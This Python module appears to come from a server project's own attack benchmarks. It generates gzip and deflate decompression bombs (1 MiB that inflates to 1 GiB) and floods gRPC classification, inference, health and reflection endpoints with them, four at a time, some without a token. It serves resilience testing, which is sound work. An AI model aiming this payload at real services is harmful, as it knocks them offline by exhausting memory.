"""Compressed messages of gRPC that inflate to a thousand times their size."""

from __future__ import annotations

import itertools
import zlib
from collections.abc import Sequence

from benchmarks.attack.attack import AttackRun, attack
from benchmarks.attack.http2 import grpc_message
from benchmarks.attack.target import HEALTH, OPEN_INFERENCE, REFLECTION, SERVICE

INFLATED_BYTES = 1 << 30
GZIP, ZLIB = zlib.MAX_WBITS | 16, zlib.MAX_WBITS
ENCODINGS = {"gzip": GZIP, "deflate": ZLIB}
AT_ONCE = 4


def bomb(encoding: str, inflated: int = INFLATED_BYTES) -> bytes:
    """Return zeros, compressed; a byte becomes a thousand.

    Args:
        encoding: a key of `ENCODINGS`.
        inflated: number of zeros.
    """
    compressor = zlib.compressobj(9, wbits=ENCODINGS[encoding])
    zeros = bytes(1 << 20)
    compressed = b"".join(compressor.compress(zeros) for _ in range(inflated >> 20))
    return compressed + compressor.flush()


async def _send_bombs(run: AttackRun, paths: Sequence[str]) -> None:
    requests = itertools.cycle(itertools.product(paths, [(name, bomb(name)) for name in ENCODINGS]))

    async def client() -> None:
        async with run.connection() as connection:
            while True:
                path, (encoding, data) = next(requests)
                stream = await connection.request(path, grpc_message(data, flag=1), [("grpc-encoding", encoding)])
                run.outcomes["sent"] += 1
                run.outcomes[await connection.outcome(stream)] += 1
                if connection.closed:
                    return

    await run.repeat(AT_ONCE, client)


@attack("1 MiB of gzip or deflate that becomes 1 GiB, 4 at a time", before="1.8 GB")
async def compressed_bomb(run: AttackRun) -> None:
    """Send bombs to both services, also as messages of a stream."""
    methods = (SERVICE + "Classify", SERVICE + "StreamFeatures", OPEN_INFERENCE + "ModelInfer", SERVICE + "ListModels")
    await _send_bombs(run, methods)


@attack("the same without a token, to health and reflection", options="tokens", before="1.8 GB")
async def compressed_bomb_to_health(run: AttackRun) -> None:
    """Send bombs to the services that need no token, and to one that refuses the call before it reads them."""
    await _send_bombs(run, (HEALTH + "Check", HEALTH + "Watch", REFLECTION, SERVICE + "Classify"))
